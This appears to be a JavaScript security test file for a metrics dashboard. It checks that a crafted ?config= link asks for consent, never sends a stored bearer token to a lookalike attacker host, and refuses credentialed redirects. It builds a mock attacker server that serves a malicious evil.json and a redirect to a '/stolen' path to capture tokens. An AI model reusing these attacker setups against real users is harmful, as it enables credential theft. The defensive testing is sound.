// Trust: a crafted link cannot send a kept token to another host. Three loopback origins —
// the app, the real source the token was typed for, and an attacker's host serving a config
// that reuses the source's name — and the token must never reach the attacker.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { serve, launch, open } from './lib.mjs';
import { faultServer } from './faults.mjs';

/** The attacker's host: serves evil.json, answers everything like a Prometheus, records all. */
async function attacker() {
  const seen = [];
  const server = createServer((req, res) => {
    const cors = { 'access-control-allow-origin': '*', 'access-control-allow-headers': 'authorization, content-type', 'content-type': 'application/json' };
    seen.push({ method: req.method, url: req.url, authorization: req.headers.authorization || null });
    if (req.method === 'OPTIONS') return res.writeHead(204, cors).end();
    if (req.url === '/evil.json') {
      const config = { title: 'Looks legit', sources: [{ name: 'prom', kind: 'prometheus', url: `http://${req.headers.host}/api`, auth: { mode: 'bearer' } }] };
      return res.writeHead(200, cors).end(JSON.stringify(config));
    }
    res.writeHead(200, cors).end(JSON.stringify({ status: 'success', data: { version: '2.53.0', resultType: 'matrix', result: [] } }));
  });
  await new Promise((r) => server.listen(0, '127.0.0.1', r));
  return { url: `http://127.0.0.1:${server.address().port}`, seen, close: () => new Promise((r) => server.close(r)) };
}

let browser, app, good, evil;
before(async () => { browser = await launch(); app = await serve(); good = await faultServer(); evil = await attacker(); });
after(async () => { await browser?.close(); await app?.close(); await good?.close(); await evil?.close(); });

test('a crafted ?config= link asks first, and a kept token never reaches another origin', async () => {
  const page = await open(browser, `${app.url}#/sources`);
  await page.waitForSelector('#add-source');
  await page.fill('#add-source input[name=name]', 'prom');
  await page.fill('#add-source input[name=url]', `${good.url}/auth`);
  await page.selectOption('#add-source select[name=auth]', 'bearer');
  await page.fill('#add-source input[name=secret]', 's3cret');
  await page.selectOption('#add-source select[name=keep]', 'local');
  await page.click('#add-source button[type=submit]');
  await page.locator('tr[data-source="prom"] .source-status').filter({ hasText: 'connected' }).waitFor({ timeout: 20000 });

  // The link: nothing is acted on until the user has seen where it comes from.
  await page.goto(`${app.url}?config=${encodeURIComponent(`${evil.url}/evil.json`)}#/sources`);
  await page.locator('#consent-load').waitFor({ timeout: 20000 });
  assert.match(await page.locator('#consent-url').innerText(), /\/evil\.json$/);
  assert.deepEqual(await page.locator('#consent-hosts li').allInnerTexts(), [evil.url]);
  assert.deepEqual(evil.seen.map((r) => r.url), ['/evil.json'], 'only the config itself was fetched');

  // Loaded anyway: the same source name now points at the attacker, who gets no token.
  await page.click('#consent-load');
  await page.locator('tr[data-source="prom"] .source-status').filter({ hasText: 'connected' }).waitFor({ timeout: 20000 });
  assert.match(await page.locator('tr[data-source="prom"]').innerText(), /bearer \(no token\)/);
  assert.ok(evil.seen.length > 1, 'the attacker host was contacted after Load');
  assert.deepEqual(evil.seen.filter((r) => r.authorization), [], 'no request carried a credential');
  assert.deepEqual(page.errors, []);

  // Back home: the token still works for its own origin; "Forget all secrets" removes it.
  await page.goto(`${app.url}#/sources`);
  await page.reload();
  await page.locator('tr[data-source="prom"]').filter({ hasText: 'bearer (token set)' }).waitFor({ timeout: 20000 });
  await page.click('#forget-secrets');
  await page.locator('tr[data-source="prom"]').filter({ hasText: 'bearer (no token)' }).waitFor({ timeout: 20000 });
  const stored = await page.evaluate(() => JSON.stringify(localStorage) + JSON.stringify(sessionStorage));
  assert.ok(!stored.includes('s3cret') && !stored.includes('headroom.secret.'), stored);
  await page.context().close();
});

test('a credentialed request that is redirected is not followed, and says so', async () => {
  // A source whose server answers every request with a redirect to the attacker's host.
  const hop = createServer((req, res) => {
    const cors = { 'access-control-allow-origin': '*', 'access-control-allow-headers': 'authorization' };
    if (req.method === 'OPTIONS') return res.writeHead(204, cors).end();
    res.writeHead(302, { ...cors, location: `${evil.url}/stolen${req.url}` }).end();
  });
  await new Promise((r) => hop.listen(0, '127.0.0.1', r));
  const before = evil.seen.length;
  const page = await open(browser, `${app.url}#/sources`);
  await page.waitForSelector('#add-source');
  await page.fill('#add-source input[name=name]', 'hop');
  await page.fill('#add-source input[name=url]', `http://127.0.0.1:${hop.address().port}`);
  await page.selectOption('#add-source select[name=auth]', 'bearer');
  await page.fill('#add-source input[name=secret]', 'hop-secret');
  await page.click('#add-source button[type=submit]');
  const status = page.locator('tr[data-source="hop"] .source-status');
  await status.filter({ hasText: 'redirect' }).waitFor({ timeout: 20000 });
  assert.match(await status.innerText(), /answered with a redirect\. Headroom does not follow redirects with this source's credentials/);
  assert.deepEqual(evil.seen.slice(before).filter((r) => r.url.startsWith('/stolen')), [], 'the redirect was not followed');
  await page.context().close();
  await new Promise((r) => hop.close(r));
});
